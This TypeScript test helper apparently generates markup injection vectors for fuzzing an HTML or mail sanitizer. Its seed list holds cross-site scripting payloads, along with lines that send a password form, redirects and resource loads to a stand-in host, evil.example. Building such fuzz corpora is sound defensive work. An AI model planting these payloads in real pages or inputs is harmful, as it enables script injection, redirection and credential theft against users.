/** Markup from common collections, or drawn from a seed. */
import fc from "fast-check";

const SEEDS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<iframe src=javascript:alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<object data=javascript:alert(1)>",
  "<embed src=//evil.example>",
  "<form action=//evil.example><input name=password>",
  "<base href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<link rel=stylesheet href=//evil.example>",
  "<style>*{background:url(//evil.example)}</style>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<plaintext>",
  "<xmp>",
  "<textarea>",
  "<title>",
  "<!--",
  "-->",
  "<![CDATA[",
  "]]>",
  "<?xml version='1.0'?>",
  "<!doctype html>",
  "</td></tr></table>",
  "</body></html>",
  "</style>",
  "</title>",
  "</a>",
  "</p><p>",
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  "` onmouseover=`alert(1)",
  '" style="position:fixed',
  "&lt;script&gt;",
  "&#60;script&#62;",
  "&#x3c;img src=x&#x3e;",
  "&amp;lt;b&amp;gt;",
  "&quot; onclick=&quot;",
  "&",
  "&#",
  "&#0;",
  "<",
  ">",
  '"',
  "'",
  "\u00ab\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  "\u0000<b>",
  "\u202e<b>",
  "\ufeff<b>",
  "javascript:alert(1)",
  "{{7*7}}<%= 7*7 %>",
  "{####}",
  "=?utf-8?q?<b>?=",
];

const around: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll(" ", "\t"),
  (text) => `x${text}${text}`,
  (text) => `${"A".repeat(90)}${text}`,
  (text) => encodeURIComponent(text),
];

/**
 * Without line breaks, which mails show as breaks by design. The seed makes failures repeatable.
 */
export function markupVectors(): string[] {
  const drawn = fc.sample(fc.string({ unit: "binary", minLength: 1, maxLength: 80 }), { numRuns: 300, seed: 43 });
  const all = [...SEEDS.flatMap((text) => around.map((form) => form(text))), ...drawn];
  return [...new Set(all.map((text) => `x${text.toWellFormed().replace(/[\r\n]/g, " ")}x`))];
}
